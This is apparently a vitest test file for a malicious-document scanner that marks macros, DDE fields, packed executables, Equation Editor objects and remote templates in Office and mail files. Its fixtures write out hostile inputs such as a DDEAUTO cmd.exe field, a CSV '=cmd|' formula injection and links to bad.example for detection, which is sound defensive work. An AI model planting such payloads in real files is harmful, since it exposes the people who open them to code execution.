import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { buildCompound } from '../testing/build-compound.ts';
import { buildVbaProject, buildWorkbook, packFile, record, rtfObject } from '../testing/build-office.ts';
import { buildOneNote, buildTnef } from '../testing/build-archives.ts';
import { buildProgram } from '../testing/build-program.ts';
import { buildWordFile, buildZip } from '../testing/build-zip.ts';
import { ArchiveBudget } from '../archives/archive.ts';
import type { FileFacts, FileMark } from './file-facts.ts';
import { inspectFile } from './inspect-file.ts';

function look(name: string, content: Uint8Array | string): FileFacts {
  return inspectFile(
    Buffer.from(content),
    { name, writtenName: name, declaredType: undefined },
    new ArchiveBudget(),
  );
}

function marksOf(name: string, content: Uint8Array | string): readonly FileMark[] {
  return [...look(name, content).marks];
}

const relationship = (type: string, target: string): { readonly name: string; readonly content: string } => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
});

/** A package of Office with one more part. */
function packageWith(part: { readonly name: string; readonly content: string | Uint8Array }): Uint8Array {
  return buildZip([{ name: '[Content_Types].xml', content: '' }, part]);
}

/** An OpenDocument with this content. */
function openDocument(content: string): Uint8Array {
  return buildZip([
    { name: 'META-INF/manifest.xml', content: '' },
    { name: 'content.xml', content },
  ]);
}

/** An object that holds a file. */
function packedObject(name: string, content: string | Uint8Array): Uint8Array {
  return buildCompound([{ path: '\u0001Ole10Native', content: packFile(name, content) }]);
}

const EQUATION = '02ce020000000000c000000000000046';
const MATH_TYPE = '03ce020000000000c000000000000046';
const URL_MONIKER = Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex');
const field = `${String.fromCharCode(19)} DDEAUTO c:\\\\windows\\\\cmd.exe "/k" ${String.fromCharCode(20)}`;

describe('active documents', () => {
  test.each<readonly [string, FileMark, string, Uint8Array | string]>([
    ['macros that run by themselves', 'macro-auto', 'a.doc', buildVbaProject('Sub AutoOpen()\nEnd Sub')],
    ['macros that reach for the system', 'macro-suspicious', 'a.doc', buildVbaProject('x = Shell("calc")')],
    [
      'macros under any name in a package',
      'macro-auto',
      'a.docx',
      buildWordFile([
        { name: 'word/embeddings/x.bin', content: buildVbaProject('Sub Document_Open()\nEnd Sub') },
      ]),
    ],
    ['a macro sheet', 'xlm-macro', 'a.xls', buildWorkbook([record(0x85, [0, 0, 0, 0, 2, 1, 1, 0, 65])])],
    ['a macro sheet of the times before', 'xlm-macro', 'a.xls', record(0x409, [0, 4, 0x40, 0, 0, 0])],
    [
      'a macro sheet by its content type',
      'xlm-macro',
      'a.xlsx',
      buildZip([
        {
          name: '[Content_Types].xml',
          content: '<Override ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        },
      ]),
    ],
    [
      'a table with a macro',
      'xlm-macro',
      'a.slk',
      'ID;PWXL\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC("x")\r\n',
    ],
    [
      'a command link in an old workbook',
      'dde',
      'a.xls',
      buildWorkbook([record(0x1ae, [0, 0, 5, 0, 0, 99, 109, 100, 3, 120]), record(0x23, [0, 0])]),
    ],
    [
      'a command link in a binary workbook',
      'dde',
      'a.xlsb',
      packageWith({ name: 'xl/externalLinks/externalLink1.bin', content: Buffer.from([0xe8, 2, 2, 1, 0]) }),
    ],
    [
      'a field command in an old document',
      'dde',
      'a.doc',
      buildCompound([{ path: 'WordDocument', content: field }]),
    ],
    [
      'a field command spelled in numbers',
      'dde',
      'a.docx',
      buildWordFile([
        { name: 'word/footer1.xml', content: '<w:instrText>QUOTE 68 68 69 65 85 84 79 </w:instrText>' },
      ]),
    ],
    [
      'a field command in rich text',
      'dde',
      'a.rtf',
      '{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO cmd}}{\\fldrslt x}}}',
    ],
    [
      'a command in an XML workbook',
      'dde',
      'a.xml',
      '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><SupBook><Path>cmd|/c calc</Path></SupBook>',
    ],
    ['a command in a table of text', 'dde', 'a.csv', "a;b\r\n=cmd|' /c calc'!A0;1\r\n"],
    [
      'a command in an OpenDocument',
      'dde',
      'a.odt',
      openDocument('<text:dde-connection-decl office:dde-application="cmd"/>'),
    ],
    [
      'a packed file in an old document',
      'ole-package',
      'a.doc',
      buildCompound([{ path: 'ObjectPool/_1/\u0001Ole10Native', content: packFile('a.txt', 'x') }]),
    ],
    [
      'a packed file in a package',
      'ole-package',
      'a.docx',
      buildWordFile([
        {
          name: 'word/embeddings/oleObject1.bin',
          content: packedObject('a.txt', 'x'),
        },
      ]),
    ],
    [
      'the Equation Editor',
      'ole-exploit',
      'a.doc',
      buildCompound([{ path: 'ObjectPool/_1/Equation Native', content: 'x' }], { 'ObjectPool/_1': EQUATION }),
    ],
    [
      'the Equation Editor in rich text',
      'ole-exploit',
      'a.rtf',
      `{\\rtf1{\\object\\objemb{\\*\\objdata ${rtfObject('Equation.3', Buffer.alloc(20))}}}}`,
    ],
    [
      'a link by URL',
      'external-link',
      'a.doc',
      buildCompound([
        { path: 'ObjectPool/_1/\u0001Ole', content: Buffer.concat([Buffer.alloc(8), URL_MONIKER]) },
      ]),
    ],
    [
      'a remote template',
      'external-template',
      'a.docx',
      buildWordFile([relationship('attachedTemplate', 'https://bad.example/t.dotm')]),
    ],
    [
      'a remote object',
      'external-link',
      'a.docx',
      buildWordFile([relationship('oleObject', 'mhtml:https://bad.example/x!x-usc:https://bad.example/x')]),
    ],
    [
      'a picture on a file server',
      'external-link',
      'a.docx',
      buildWordFile([relationship('image', '\\\\bad.example\\share\\a.png')]),
    ],
    [
      'an imported part',
      'foreign-part',
      'a.docx',
      buildWordFile([
        {
          name: 'word/_rels/document.xml.rels',
          content: '<Relationship Type="http://x/aFChunk" Target="afchunk.mht"/>',
        },
      ]),
    ],
    [
      'a control',
      'activex',
      'a.docx',
      buildWordFile([{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]),
    ],
    [
      'a slide that starts a program',
      'starts-program',
      'a.pptx',
      packageWith({ name: 'ppt/slides/slide1.xml', content: '<a:hlinkClick action="ppaction://program"/>' }),
    ],
    ['a stored file in a notebook', 'onenote-file', 'a.one', buildOneNote(buildProgram())],
    [
      'a compound file with a broken directory',
      'ole-package',
      'a.doc',
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(2_000),
        Buffer.from('\u0001Ole10Native', 'utf16le'),
      ]),
    ],
  ])('%s', (_title, mark, name, content) => {
    expect(marksOf(name, content)).toContain(mark);
  });

  test('a program packed into a document is found and named', () => {
    const found = look(
      'a.doc',
      buildCompound([
        { path: 'ObjectPool/_1/\u0001Ole10Native', content: packFile('bill.exe', buildProgram()) },
      ]),
    );
    expect(found.inside).toMatchObject([{ name: 'bill.exe', kind: 'program' }]);
  });

  test('a program in an object that Word 2003 packs into an XML file is found and named', () => {
    const object = packedObject('invoice.pdf.exe', 'MZ program');
    const length = Buffer.alloc(4);
    length.writeUInt32LE(object.length);
    const packed = Buffer.concat([length, deflateSync(object)]);
    const objects = buildCompound([{ path: '_1500000000', content: packed }]);
    const data = Buffer.from(objects).toString('base64');
    const { marks, inside } = look(
      'a.xml',
      `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument><w:binData w:name="oledata.mso">${data}</w:binData></w:wordDocument>`,
    );
    expect([...marks]).toContain('ole-package');
    expect(inside.map(({ name }) => name)).toEqual(['invoice.pdf.exe']);
  });

  test('H-94 objects packed into each other end, and so do broken ones', () => {
    const pack = (inner: Uint8Array): Uint8Array =>
      buildCompound([{ path: '_1', content: Buffer.concat([Buffer.alloc(4), deflateSync(inner)]) }]);
    const nested = Array.from({ length: 12 }).reduce<Uint8Array>(
      (inner) => pack(inner),
      packedObject('a.exe', 'MZ'),
    );
    expect(marksOf('a.doc', nested)).not.toContain('ole-package');
    const broken = buildCompound([
      { path: '_1', content: Buffer.from('\0\0\0\0\u0078\u009cnothing', 'latin1') },
    ]);
    expect(marksOf('a.doc', broken)).toEqual([]);
  });

  test('an object in rich text is read through the noise that Word skips', () => {
    const hex = rtfObject('Package', packFile('bill.exe', buildProgram()).subarray(4));
    const noisy = hex.replace(/(..)/g, '$1\r\n{\\*\\junk 99}\\abc12 ');
    expect(look('a.rtf', `{\\rtf1{\\object\\objemb{\\*\\objdata ${noisy}}}}`).inside).toMatchObject([
      { name: 'bill.exe', kind: 'program' },
    ]);
  });

  test('a flat package is opened like a zipped one', () => {
    const project = Buffer.from(buildVbaProject('Sub AutoOpen()\nEnd Sub')).toString('base64');
    const xml = `<?xml version="1.0"?><pkg:package><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>${project}</pkg:binaryData></pkg:part></pkg:package>`;
    expect(marksOf('a.xml', xml)).toContain('macro-auto');
  });
});

describe('containers of messages', () => {
  test('an Outlook message shows its attachments, those of messages inside it too', () => {
    const name = (text: string): Buffer => Buffer.from(text.padEnd(2_048, '\0'), 'utf16le');
    const found = look(
      'mail.msg',
      buildCompound([
        { path: '__properties_version1.0', content: 'x' },
        { path: '__attach_version1.0_#00000000/__substg1.0_37010102', content: buildProgram() },
        { path: '__attach_version1.0_#00000000/__substg1.0_3707001F', content: name('setup.exe') },
        {
          path: '__attach_version1.0_#00000001/__substg1.0_3701000D/__attach_version1.0_#00000000/__substg1.0_37010102',
          content: '%PDF-1.4',
        },
      ]),
    );
    expect(found.realType).toBe('application/vnd.ms-outlook');
    expect(found.inside.map(({ realType }) => realType)).toEqual([
      'application/vnd.microsoft.portable-executable',
      'application/pdf',
    ]);
    expect(found.inside[0]?.name.replaceAll('\0', '')).toBe('setup.exe');
  });

  test('H-94 winmail.dat shows its attachments', () => {
    expect(look('winmail.dat', buildTnef('setup.exe', buildProgram())).inside).toMatchObject([
      { name: 'setup.exe', kind: 'program' },
    ]);
  });

  test('H-94 winmail.dat that is cut, or lies about its lengths, ends', () => {
    const whole = Buffer.from(buildTnef('a.txt', Buffer.from('hello')));
    for (let end = 0; end < whole.length; end += 1) {
      expect(look('winmail.dat', whole.subarray(0, end))).toBeDefined();
    }
    for (let at = 6; at + 4 < whole.length; at += 1) {
      const lying = Buffer.from(whole);
      lying.writeUInt32LE(0xffffffff, at);
      expect(look('winmail.dat', lying)).toBeDefined();
    }
  });
});

describe('the real type is known whatever the name says', () => {
  test.each([
    [
      'an installer named .doc',
      'application/x-msi',
      buildCompound([{ path: 'x', content: 'x' }], { '': '84100c0000000000c000000000000046' }),
    ],
    [
      'a Java program named .zip',
      'application/java-archive',
      buildZip([
        { name: 'META-INF/MANIFEST.MF', content: '' },
        { name: 'A.class', content: '' },
      ]),
    ],
    [
      'an Android program named .zip',
      'application/vnd.android.package-archive',
      buildZip([
        { name: 'AndroidManifest.xml', content: '' },
        { name: 'classes.dex', content: '' },
      ]),
    ],
    [
      'a disk image of a virtual machine',
      'application/x-vhd',
      Buffer.concat([Buffer.alloc(4_096), Buffer.from('conectix'), Buffer.alloc(504)]),
    ],
    [
      'a disk image of a Mac',
      'application/x-apple-diskimage',
      Buffer.concat([Buffer.alloc(4_096, 1), Buffer.from('koly'), Buffer.alloc(508)]),
    ],
  ])('%s', (_title, type, content) => {
    const found = look('letter.doc', content);
    expect(found.realType).toBe(type);
    expect(['program', 'disk-image']).toContain(found.kind);
  });

  test('a program behind the end of a picture is seen', () => {
    const program = Buffer.from(buildProgram());
    program.write('!This program cannot be run in DOS mode', 78, 'latin1');
    expect(marksOf('a.gif', Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(200), program]))).toContain(
      'hidden-program',
    );
  });
});

describe('legitimate documents', () => {
  test.each<readonly [string, string, Uint8Array | string]>([
    [
      'a letter that speaks of DDE links',
      'a.docx',
      buildWordFile([
        { name: 'word/footer1.xml', content: '<w:t>This text contains no DDE links at all.</w:t>' },
      ]),
    ],
    ['a workbook with two sheets', 'a.xls', buildWorkbook([record(0x85, [0, 0, 0, 0, 0, 0, 1, 0, 65])])],
    [
      'a workbook linked by an object to a document beside it',
      'a.xls',
      buildWorkbook([record(0x1ae, [0, 0, 5, 0, 0, 87, 3, 97, 46, 100]), record(0x23, [0x10, 0])]),
    ],
    [
      'a picture from the web',
      'a.docx',
      buildWordFile([relationship('image', 'https://shop.example/logo.png')]),
    ],
    [
      'a template on the own disk',
      'a.docx',
      buildWordFile([relationship('attachedTemplate', 'file:///C:/Templates/a.dotx')]),
    ],
    ['a list of products that begins with ID', 'a.csv', 'ID;Product;Price\r\n1;Lamp;3\r\n'],
    [
      'an old letter',
      'a.doc',
      buildCompound([
        { path: 'WordDocument', content: 'Dear Anna' },
        { path: '1Table', content: 'x' },
      ]),
    ],
    ['an OpenDocument text', 'a.odt', openDocument('<office:document-content/>')],
    [
      'a page of notes without files',
      'a.one',
      Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(400)]),
    ],
  ])('%s carries no mark', (_title, name, content) => {
    expect(marksOf(name, content)).toEqual([]);
  });

  test('a formula of MathType is an embedded object and no more', () => {
    const found = marksOf(
      'a.doc',
      buildCompound(
        [
          { path: 'WordDocument', content: 'x' },
          { path: 'ObjectPool/_1/Equation Native', content: 'x' },
        ],
        { 'ObjectPool/_1': MATH_TYPE },
      ),
    );
    expect(found).toEqual([]);
  });

  test('a table inside a presentation is told as a document inside, not as a danger', () => {
    const inner = packageWith({ name: 'xl/workbook.xml', content: '' });
    const found = marksOf('a.pptx', packageWith({ name: 'ppt/embeddings/Sheet1.xlsx', content: inner }));
    expect(found).toEqual(['ole-embedded']);
  });
});
